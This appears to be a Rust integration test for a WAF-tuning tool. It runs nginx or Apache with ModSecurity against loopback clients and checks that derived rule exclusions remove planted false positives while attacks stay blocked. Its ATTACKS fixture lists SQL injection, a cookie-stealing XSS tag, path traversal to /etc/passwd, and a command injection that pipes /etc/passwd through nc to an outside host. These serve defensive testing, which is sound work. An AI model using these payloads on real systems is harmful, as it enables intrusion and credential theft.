//! `tollgate waf tune` on logs of real ModSecurity: derived, applied to the same server, and sent again, as docs/tuning.md tells.

use crate::foreign_server::{ForeignServer, NGINX_FOLDERS, free_port};
use crate::support::{Workspace, show, stdout};
use nix::sys::signal::Signal;
use rustix::net::{AddressFamily, SocketType};
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use tollgate_experiment::catalog::Catalog;
use tollgate_runner::system::build;

const CONFIG: &str = r#"
load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;
daemon off;
worker_processes 1;
pid FOLDER/nginx.pid;
error_log FOLDER/error.log info;
events { worker_connections 64; }
http {
    access_log off;
    NGINX_FOLDERS
    server {
        listen 127.0.0.1:PORT;
        modsecurity on;
        modsecurity_rules_file FOLDER/server.conf;
        location / { proxy_pass http://127.0.0.1:PORT/page/; proxy_method GET; proxy_pass_request_body off; proxy_set_header Content-Length ""; }
        location /page/ { modsecurity off; return 200 page; }
    }
}
"#;

/// A request that the rules pass gets 404.
const APACHE: &str = r"
ServerName localhost
Listen 127.0.0.1:PORT
PidFile FOLDER/apache.pid
ErrorLog FOLDER/error.log
DocumentRoot FOLDER/tests
DefaultRuntimeDir FOLDER
SecDataDir FOLDER
SecTmpDir FOLDER
Include FOLDER/server.conf
";

const SERVER: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecAuditEngine RelevantOnly
SecAuditLogRelevantStatus "^403$"
SecAuditLogParts ABCFHZ
SecAuditLogFormat FORMAT
SecAuditLog FOLDER/audit.log
Include FOLDER/crs-setup.conf
Include FOLDER/exclusions.conf
Include FOLDER/rules/*.conf
"#;

/// Ordinary texts that the Core Rule Set takes for attacks, each for one kind.
const PLANTED: [&str; 5] = [
    "the union will select new members from region",
    "please edit the .htaccess file of site",
    "the manual explains file_get_contents on page",
    "I lost the powershell.exe icon of machine",
    "read information_schema in the handbook, chapter",
];

const ORDINARY: [&str; 4] = [
    "thanks for the quick reply, order",
    "does this shirt come in blue? number",
    "we meet at the union station, platform",
    "my favourite select menu has options:",
];

const ATTACKS: [&str; 4] = [
    "1' or '1'='1' union select password from users -- ",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 192.0.2.1 80",
];

const PLACES: [(&str, &str); 4] = [
    ("/blog/comment", "text"),
    ("/forum/17/reply", "body"),
    ("/support/ticket", "message"),
    ("/wiki/edit", "content"),
];

/// Last bytes of the clients' addresses: of the one that sends attacks, as it sends the mixes, and of the first ordinary one.
const ATTACKER: u8 = 1;
const ORDINARY_CLIENT: u8 = 2;

struct Server(ForeignServer);

impl Server {
    fn nginx(workspace: &Workspace, format: &str) -> Self {
        let mut command = Command::new("/usr/sbin/nginx");
        let folder = workspace.path(".");
        command.arg("-e").arg(folder.join("start.log")).arg("-p").arg(&folder);
        command.arg("-c").arg(folder.join("nginx.conf"));
        let config = CONFIG.replace("NGINX_FOLDERS", NGINX_FOLDERS);
        Self::start(workspace, ("nginx.conf", &config), format, &mut command, Signal::SIGQUIT)
    }

    fn apache(workspace: &Workspace, format: &str) -> Self {
        let mut command = Command::new("/usr/sbin/apache2");
        let folder = workspace.path(".");
        command.arg("-DFOREGROUND").arg("-E").arg(folder.join("start.log"));
        command.arg("-f").arg(folder.join("httpd.conf"));
        let config = apache_modules() + APACHE;
        Self::start(workspace, ("httpd.conf", &config), format, &mut command, Signal::SIGWINCH)
    }

    fn start(
        workspace: &Workspace,
        (name, config): (&str, &str),
        format: &str,
        command: &mut Command,
        ends_by: Signal,
    ) -> Self {
        let folder = workspace.path(".");
        let port = free_port();
        let fill = |text: &str| {
            text.replace("FOLDER", folder.to_str().expect("a path in UTF-8"))
                .replace("PORT", &port.to_string())
                .replace("FORMAT", format)
        };
        workspace.write(name, &fill(config));
        workspace.write("server.conf", &fill(SERVER));
        let server = ForeignServer::start(command, port, || workspace.read("start.log"));
        Self(server.ended_by(ends_by))
    }

    /// Sends a form from this address of the loopback network and returns the status.
    fn status(&self, client: u8, (path, key, value): (&str, &str, &str)) -> u16 {
        let encoded: String = value
            .bytes()
            .map(|byte| match byte {
                byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
                byte => format!("%{byte:02X}"),
            })
            .collect();
        let body = format!("{key}={encoded}");
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let mut stream = self.connect_from(client);
        stream.set_read_timeout(Some(Duration::from_secs(60))).expect("a timeout");
        stream.write_all(request.as_bytes()).expect("nginx reads");
        let mut response = Vec::new();
        stream.read_to_end(&mut response).expect("nginx responds");
        let text = String::from_utf8_lossy(&response);
        text.split(' ').nth(1).and_then(|status| status.parse().ok()).expect("a status")
    }

    fn connect_from(&self, client: u8) -> TcpStream {
        let socket = rustix::net::socket(AddressFamily::INET, SocketType::STREAM, None);
        let socket = socket.expect("a socket");
        let own = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, client), 0);
        rustix::net::bind(&socket, &own).expect("a loopback address");
        let server: SocketAddrV4 = self.0.address().parse().expect("an address");
        rustix::net::connect(&socket, &server).expect("the server accepts");
        TcpStream::from(socket)
    }

    /// Sends ordinary requests of several clients, with planted false positives. Returns how many of each are blocked.
    fn send_ordinary(&self) -> (usize, usize) {
        let is_blocked = |text: &str, number: usize| {
            let (path, key) = PLACES[number % PLACES.len()];
            // Each text at each place comes from all clients.
            let client = ORDINARY_CLIENT + u8::try_from(number / 20 % 5).expect("a small number");
            self.status(client, (path, key, &format!("{text} {number}"))) == 403
        };
        let count = |texts: &[&str], requests: usize| {
            (0..requests).filter(|number| is_blocked(texts[number % texts.len()], *number)).count()
        };
        (count(&PLANTED, 100), count(&ORDINARY, 200))
    }

    fn blocked_attacks(&self) -> usize {
        let places = PLACES.iter().map(|(path, _)| (*path, "other")).chain([("/", "q")]);
        let requests = places.flat_map(|place| ATTACKS.map(|attack| (place, attack)));
        requests
            .filter(|((path, key), attack)| self.status(ATTACKER, (path, key, attack)) == 403)
            .count()
    }
}

fn workspace() -> Workspace {
    let workspace = Workspace::concurrent();
    let setup = fs::read_to_string("/etc/modsecurity/crs/crs-setup.conf")
        .expect("modsecurity-crs is not installed; run `make packages`");
    workspace.write("crs-setup.conf", &setup);
    workspace.write("exclusions.conf", "");
    let rules = fs::read_dir("/usr/share/modsecurity-crs/rules").expect("the rules of the package");
    for entry in rules {
        let path = entry.expect("a file of the package").path();
        let name = path.file_name().and_then(|name| name.to_str()).expect("a name in UTF-8");
        workspace
            .write(&format!("rules/{name}"), &fs::read_to_string(&path).expect("rules in UTF-8"));
    }
    // Payloads for the proof.
    let test = |number: usize, attack: &str| {
        format!(
            "  - test_id: {number}\n    stages:\n      - input: {{method: POST, headers: {{Host: a, User-Agent: x, Accept: '*/*'}}, data: {}}}\n\
             \x20       output: {{log: {{expect_ids: [1]}}}}\n",
            serde_json::to_string(&format!("q={attack}")).expect("a text")
        )
    };
    let attacks: String = ATTACKS
        .iter()
        .chain(&PLANTED[..1])
        .enumerate()
        .map(|(at, one)| test(at + 1, one))
        .collect();
    workspace.write("tests/all.yaml", &format!("rule_id: 1\ntests:\n{attacks}"));
    // The workers of a master that root starts run as another user.
    let folder = workspace.path(".");
    Command::new("chmod").args(["-R", "a+rwX"]).arg(&folder).status().expect("chmod");
    workspace
}

/// The commands of docs/tuning.md, in their order.
fn commands() -> Vec<Vec<&'static str>> {
    let lines = include_str!("../../docs/tuning.md").lines();
    let commands = lines.filter_map(|line| line.strip_prefix("    tollgate "));
    commands
        .map(|command| command.split(" #").next().unwrap_or(command).split_whitespace().collect())
        .collect()
}

/// Sends ordinary requests and attacks. Returns the number of blocked attacks.
fn send_all(server: &Server) -> usize {
    let ordinary = server.send_ordinary();
    assert_eq!(ordinary, (100, 0), "planted false positives, and ordinary requests");
    let blocked = server.blocked_attacks();
    assert_eq!(blocked, PLACES.len() * ATTACKS.len() + ATTACKS.len());
    blocked
}

/// The requests of the mixes, in the log with the others.
const MIXES: [&str; 3] = ["realistic", "vpatch/attacks", "vpatch/near-misses"];

/// A template of a mix, as the firewall treats it.
#[derive(Debug, PartialEq)]
struct Treated {
    is_attack: bool,
    blocked: u64,
    responses: u64,
}

/// Sends the mixes: a second time the same requests.
fn send_mixes(workspace: &Workspace, server: &Server) -> BTreeMap<String, Treated> {
    let mut templates = BTreeMap::new();
    let url = format!("http://{}/", server.0.address());
    for mix in MIXES {
        // Other statuses than the mix expects, such as 404, do not fail the test.
        let (_, result) =
            workspace.load(&[&url, "--mix", mix, "-n", "400", "-c", "1", "--seed", "1"]);
        assert_eq!(result["failed"], 0, "{mix}: {result}");
        for template in result["templates"].as_array().expect("templates") {
            let blocked = template["statuses"].get("403").and_then(Value::as_u64).unwrap_or(0);
            let treated = Treated {
                is_attack: template["class"] == "malicious",
                blocked,
                responses: template["responses"].as_u64().expect("a count"),
            };
            templates.insert(format!("{mix} {}", template["name"]), treated);
        }
    }
    templates
}

/// Sends all again to a server with exclusions.
fn check_exclusions(server: &Server, blocked_before: usize, report: &str) {
    let (planted, ordinary) = server.send_ordinary();
    assert!(planted <= 5 && ordinary == 0, "{planted} of 100 false positives are left: {report}");
    assert_eq!(server.blocked_attacks(), blocked_before, "{report}");
}

/// The number that stands before a phrase.
fn number_before(text: &str, phrase: &str) -> Option<u64> {
    let (before, _) = text.split_once(phrase)?;
    before.rsplit(|c: char| !c.is_ascii_digit()).next()?.parse().ok()
}

fn tells_the_story(start: impl Fn(&Workspace) -> Server, engine: &str) {
    let workspace = workspace();
    let commands = commands();
    let [replay, tune, again] = &commands[..] else { panic!("{commands:?}") };
    let tune: Vec<&str> =
        tune.iter().map(|word| if *word == "modsecurity3" { engine } else { word }).collect();
    let server = start(&workspace);
    let blocked_before = send_all(&server);
    let mixes_before = send_mixes(&workspace, &server);
    drop(server);
    let sent = 120 + mixes_before.values().map(|treated| treated.blocked).sum::<u64>();
    let output = workspace.run(replay);
    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
    let replayed = stdout(&output);
    // ModSecurity 2 logs no body that has files.
    let blocked = number_before(&replayed, " would be blocked").expect("a summary");
    let without_body = number_before(&replayed, " had a body, which the log").unwrap_or(0);
    assert_eq!(blocked + without_body, sent, "{replayed}");
    let output = workspace.run(&tune);
    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
    let text = stdout(&output);
    assert!(text.contains("let 100 of them pass."), "{text}");
    // The phrase that is itself a payload passes where it is benign, and the report says so.
    assert!(text.contains("lets through 1 of "), "{text}");
    let output = workspace.run(again);
    let left = number_before(&stdout(&output), " would be blocked").expect("a summary");
    assert_eq!(left, blocked - 100, "{}", show(&output));
    let server = start(&workspace);
    check_exclusions(&server, blocked_before, &text);
    assert_eq!(send_mixes(&workspace, &server), mixes_before, "{text}");
    drop(server);
    assert_parses(&workspace, &tune);
}

/// The modules that every configuration of Apache here loads.
fn apache_modules() -> String {
    let modules = Path::new("/usr/lib/apache2/modules");
    let load = |(name, file): (&str, &str)| {
        format!("LoadModule {name} {}\n", modules.join(file).display())
    };
    let modules = [
        ("mpm_event_module", "mod_mpm_event.so"),
        ("authz_core_module", "mod_authz_core.so"),
        ("unique_id_module", "mod_unique_id.so"),
        ("security2_module", "mod_security2.so"),
    ];
    modules.map(load).concat()
}

/// Apache with ModSecurity 2 reads exclusions for it.
fn assert_parses(workspace: &Workspace, tune: &[&str]) {
    let for_second: Vec<&str> = tune
        .iter()
        .map(|word| if *word == "modsecurity3" { "modsecurity2" } else { word })
        .collect();
    let output = workspace.run(&for_second);
    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
    let folder = workspace.path(".");
    let config = [
        apache_modules(),
        format!(
            "ServerName localhost\nListen 127.0.0.1:1\nErrorLog {0}/apache.log\nPidFile {0}/apache.pid\n",
            folder.display()
        ),
        format!("Include {}\n", folder.join("exclusions.conf").display()),
    ];
    workspace.write("apache.conf", &config.concat());
    let output = Command::new("/usr/sbin/apache2")
        .arg("-t")
        .arg("-f")
        .arg(folder.join("apache.conf"))
        .output();
    let output = output.expect("Apache is not installed; run `make packages`");
    assert!(output.status.success(), "{}\n{}", show(&output), workspace.read("exclusions.conf"));
}

#[test]
fn false_positives_in_a_native_log_end_and_attacks_stay_blocked() {
    tells_the_story(|workspace| Server::nginx(workspace, "Native"), "modsecurity3");
}

#[test]
fn false_positives_in_a_json_log_end_and_attacks_stay_blocked() {
    tells_the_story(|workspace| Server::nginx(workspace, "JSON"), "modsecurity3");
}

#[test]
fn false_positives_in_logs_of_apache_end_and_attacks_stay_blocked() {
    for format in ["Native", "JSON"] {
        tells_the_story(|workspace| Server::apache(workspace, format), "modsecurity2");
    }
}

/// Error logs have matches and no requests.
#[test]
fn false_positives_in_error_logs_end_and_attacks_stay_blocked() {
    let nginx: fn(&Workspace) -> Server = |workspace| Server::nginx(workspace, "Native");
    let apache: fn(&Workspace) -> Server = |workspace| Server::apache(workspace, "Native");
    for (start, engine) in [(nginx, "modsecurity3"), (apache, "modsecurity2")] {
        let workspace = workspace();
        let blocked_before = send_all(&start(&workspace));
        let rules = ["crs-setup.conf", "rules/", "--log", "error.log", "--attacks", "tests/"];
        let options = ["--for", engine, "--out", "exclusions.conf"];
        let output = workspace.run(&[&["waf", "tune"][..], &rules, &options].concat());
        assert_eq!(output.status.code(), Some(0), "{}", show(&output));
        let report = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
        let expected = "matches of 120 transactions without the request, which are not replayed; 120 are blocked, and the exclusions silence all matches of 100 of them.";
        assert!(report.contains(expected), "{report}");
        check_exclusions(&start(&workspace), blocked_before, &report);
    }
}

#[test]
fn entries_of_a_concurrent_log_are_replayed() {
    let workspace = workspace();
    let folder = workspace.path("entries");
    fs::create_dir(&folder).expect("a folder");
    Command::new("chmod").arg("a+rwX").arg(&folder).status().expect("chmod");
    let storage =
        format!("SecAuditLogType Concurrent\nSecAuditLogStorageDir {}\n", folder.display());
    workspace.write("exclusions.conf", &storage);
    send_all(&Server::nginx(&workspace, "Native"));
    let replay = |log| workspace.run(&["waf", "replay", "crs-setup.conf", "rules/", "--log", log]);
    let output = replay("entries");
    assert!(stdout(&output).contains("120 requests, 120 would be blocked"), "{}", show(&output));
    // The index alone has no requests.
    let output = replay("audit.log");
    assert_eq!(output.status.code(), Some(2), "{}", show(&output));
}

#[test]
fn coraza_reads_exclusions_for_it() {
    let workspace = workspace();
    send_all(&Server::nginx(&workspace, "Native"));
    let rules = ["crs-setup.conf", "rules/", "--log", "audit.log"];
    let options = ["--min-clients", "1", "--for", "coraza", "--out", "exclusions.conf"];
    let output = workspace.run(&[&["waf", "tune"][..], &rules, &options].concat());
    assert_eq!(output.status.code(), Some(0), "{}", show(&output));
    let exclusions = workspace.read("exclusions.conf");
    assert!(exclusions.contains("ctl:ruleRemoveTargetById="), "{exclusions}");
    let build = Catalog::new(vec![]).build("caddy").expect("the build of the catalog");
    let caddy = build::find(&build).expect("Caddy is not built; run `make packages`").join("caddy");
    for (line, is_valid) in [("", true), ("SecRule ARGS", false)] {
        workspace.write("exclusions.conf", &format!("{exclusions}{line}\n"));
        let include = format!("Include {}", workspace.path("exclusions.conf").display());
        let waf = format!("coraza_waf {{\n directives `{include}`\n }}");
        let config = format!(
            "{{\n admin off\n order coraza_waf first\n}}\n:0 {{\n {waf}\n respond ok\n}}\n"
        );
        workspace.write("Caddyfile", &config);
        let mut command = Command::new(&caddy);
        command.args(["validate", "--adapter", "caddyfile", "--config"]);
        let output = command.arg(workspace.path("Caddyfile")).output().expect("Caddy runs");
        assert_eq!(output.status.success(), is_valid, "{}\n{exclusions}", show(&output));
    }
}

#[test]
fn reports_of_exclusions_have_all_formats() {
    let workspace = workspace();
    send_all(&Server::nginx(&workspace, "Native"));
    for (format, start) in [
        ("table", "120 requests"),
        ("markdown", "## Exclusions"),
        ("html", "<!DOCTYPE html>"),
        ("json", "{"),
    ] {
        let rules = ["crs-setup.conf", "rules/", "--log", "audit.log", "--format", format];
        let options = ["--min-clients", "1", "--out", "exclusions.conf"];
        let text = stdout(&workspace.run(&[&["waf", "tune"][..], &rules, &options].concat()));
        assert!(text.starts_with(start), "{format}: {text}");
        assert!(text.contains("the union will select new members from region"), "{format}: {text}");
    }
}

#[test]
fn more_lost_attacks_than_allowed_fail() {
    let workspace = workspace();
    send_all(&Server::nginx(&workspace, "Native"));
    let tune = |options: &[&str]| {
        let rules = [
            "waf",
            "tune",
            "crs-setup.conf",
            "rules/",
            "--log",
            "audit.log",
            "--attacks",
            "tests/",
        ];
        workspace.run(
            &[&rules[..], &["--min-clients", "1", "--out", "exclusions.conf"], options].concat(),
        )
    };
    let report = stdout(&tune(&[]));
    let lost = report.split("Together they let ").nth(1).and_then(|rest| rest.split(' ').next());
    let lost: usize = lost.and_then(|lost| lost.parse().ok()).expect("a number of lost attacks");
    for (allowed, code) in [(lost, 0), (lost - 1, 1)] {
        let output = tune(&["--max-lost", &allowed.to_string()]);
        assert_eq!(output.status.code(), Some(code), "{}", show(&output));
    }
}
